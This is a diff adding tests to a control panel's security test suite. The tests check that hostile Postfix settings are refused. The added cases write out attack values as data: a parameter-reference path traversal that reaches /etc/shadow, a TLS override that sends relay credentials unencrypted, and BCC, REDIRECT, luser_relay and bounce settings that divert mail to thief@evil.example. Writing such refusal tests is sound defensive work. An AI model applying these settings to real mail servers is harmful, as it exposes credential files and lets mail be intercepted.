@@ -12,6 +12,11 @@
  *   scope.set cp.bootstrapper (RPC and cpcmd), a scope's set, reset and adopt; main.cf is unchanged;
  * - the admin is refused, with the reason, the dangerous classes, and nothing changes; a
  *   harmless parameter still works;
+ * - a second pass: the admin is refused values built from other parameters ($masquerade_exceptions
+ *   holding '..' walked texthash: out of /etc/postfix to /etc/shadow), the outbound TLS family
+ *   (smtp_tls_per_site NONE sent AUTH in the clear despite encrypt), native host lookups, BCC and
+ *   REDIRECT actions, check_policy_service, the proxy protocol, bounce copies and inline
+ *   address-rewriting tables; $myhostname, $mydomain and the other plain names still work;
  * - the running check: a hand-edited main.cf whose queue_directory lies outside the root is
  *   never read there (a FIFO would block a reader), a planted postfix-script never runs, and a
  *   pid file inside the root naming a live process that is not Postfix's master is not Postfix.
@@ -141,6 +146,66 @@ describe('operator to root through postfix_custom_config', { timeout: 60_000 }, 
     }
     expect(await mainCf()).toBe(before);
     expect(await customVar()).toEqual({});
+  });
+
+  it('the admin is refused $-references, outbound TLS settings and ways to copy, divert or leak mail, and nothing changes', async () => {
+    const before = await mainCf();
+    const custom = await customVar();
+    const refused: [Record<string, string>, RegExp][] = [
+      // A value built from another parameter: Postfix expanded this to /etc/postfix/../../../../etc/shadow and postmap read it.
+      [
+        { masquerade_exceptions: '..', virtual_alias_maps: 'texthash:$config_directory/$masquerade_exceptions/$masquerade_exceptions/$masquerade_exceptions/$masquerade_exceptions/etc/shadow' },
+        /virtual_alias_maps is refused: \$masquerade_exceptions refers to another parameter.*write the value out/,
+      ],
+      [{ virtual_alias_maps: 'texthash:$smtpd_tls_key_file' }, /\$smtpd_tls_key_file refers to another parameter/],
+      [{ virtual_alias_maps: '${alias_maps}' }, /\$alias_maps refers to another parameter/],
+      [{ smtpd_banner: '${myhostname?$alias_maps} ESMTP' }, /smtpd_banner is refused: .*not a plain reference/],
+      [{ mydomain: '..' }, /mydomain is refused: .*plain name/],
+      [{ address_verify_map: 'btree:$config_directory/$mydomain/verify' }, /address_verify_map is refused: .*\$mydomain.*write the value out/],
+      [{ postscreen_cache_map: 'btree:cache' }, /postscreen_cache_map is refused: "cache" is a path outside \/etc\/postfix/],
+      // Outbound TLS: a per-site NONE sent the relay password in the clear despite smtp_tls_security_level=encrypt.
+      [{ smtp_tls_per_site: 'inline:{[127.0.0.1]:2526=NONE}' }, /smtp_tls_per_site is refused \(outbound TLS and host lookups\)/],
+      [{ tls_high_cipherlist: 'aNULL' }, /tls_high_cipherlist is refused \(outbound TLS and host lookups\)/],
+      [{ smtp_host_lookup: 'native' }, /smtp_host_lookup is refused \(outbound TLS and host lookups\)/],
+      [{ smtp_discard_ehlo_keywords: 'starttls' }, /smtp_discard_ehlo_keywords is refused \(outbound TLS and host lookups\)/],
+      [{ debug_peer_list: 'relay.example.test' }, /debug_peer_list is refused \(relay and credentials\)/],
+      // Copies, diversions and leaks.
+      [{ smtpd_recipient_restrictions: 'check_recipient_access inline:{victim@example.test=BCC thief@evil.example}' }, /a BCC action/],
+      [{ smtpd_sender_restrictions: 'check_sender_access inline:{victim@example.test=REDIRECT thief@evil.example}' }, /a REDIRECT action/],
+      [{ smtpd_recipient_restrictions: 'permit_mynetworks, check_policy_service inet:127.0.0.1:9998' }, /check_policy_service sends/],
+      [{ smtpd_upstream_proxy_protocol: 'haproxy' }, /smtpd_upstream_proxy_protocol is refused \(owners, groups and privileges\)/],
+      [{ bounce_notice_recipient: 'thief@evil.example' }, /bounce_notice_recipient is refused \(filters and milters\)/],
+      [{ notify_classes: 'bounce, resource, software' }, /notify_classes is refused \(filters and milters\)/],
+      [{ luser_relay: 'thief@evil.example' }, /luser_relay is refused \(filters and milters\)/],
+      [{ smtpd_command_filter: 'pcre:/etc/postfix/command_filter' }, /smtpd_command_filter is refused \(filters and milters\)/],
+      [{ recipient_canonical_maps: 'static:thief@evil.example' }, /recipient_canonical_maps is refused: .*written into the value/],
+    ];
+    for (const [value, why] of refused) {
+      const a = await d.call('var.set', { name: 'postfix_custom_config', value });
+      expect('error' in a && a.error, JSON.stringify(a)).toMatchObject({ code: INVALID, message: expect.stringMatching(/postfix_custom_config/) });
+      expect(('error' in a ? (a.error.data.issues as { message: string }[]) : []).map((i) => i.message).join('\n')).toMatch(why);
+    }
+    // As the admin types it.
+    const r = await d.cpcmd(['scope:set', 'cp.bootstrapper', 'postfix_custom_config', "[smtp_tls_per_site:'inline:{[127.0.0.1]:2526=NONE}']"]);
+    expect(r.code, r.stderr).toBe(EXIT.invalid);
+    expect(r.stderr).toMatch(/smtp_tls_per_site is refused \(outbound TLS and host lookups\)/);
+    expect(await mainCf()).toBe(before);
+    expect(await customVar()).toEqual(custom);
+  });
+
+  it('the admin\'s everyday parameters, $myhostname and friends included, still work', async () => {
+    const value = {
+      smtpd_banner: '$myhostname ESMTP $mail_name',
+      mydestination: '$myhostname, localhost.$mydomain, localhost',
+      myorigin: '$mydomain',
+      message_size_limit: '52428800',
+      smtpd_tls_cert_file: '/etc/postfix/cert.pem',
+      address_verify_map: 'btree:$config_directory/verify_cache',
+    };
+    await d.ok('var.set', { name: 'postfix_custom_config', value });
+    const params = await box.postconf(['-n']);
+    for (const [name, v] of Object.entries(value)) expect(params).toContain(`${name} = ${v}\n`);
+    expect(await customVar()).toEqual(value);
   });
 
   it('a harmless parameter still works for the admin', async () => {
